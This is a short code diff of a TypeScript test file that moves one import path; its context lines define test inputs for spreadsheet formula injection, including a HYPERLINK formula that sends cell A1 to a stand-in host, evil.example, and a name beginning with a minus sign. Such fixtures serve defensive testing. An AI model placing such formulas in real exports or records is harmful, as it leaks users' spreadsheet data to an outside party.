@@ -5,7 +5,7 @@ import { expect } from 'vitest';
 import { majorUnits } from '@cagnotte/shared';
 import type { TestContext } from '../../../test/harness.ts';
 import type { Member } from '../../../test/given.ts';
-import { grant, returnBucketAllocations } from '../allocations/ledger.ts';
+import { grant, returnBucketAllocations } from '../ledger/index.ts';
 
 export const INJECTED_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 export const INJECTED_NAME = '-Bob';
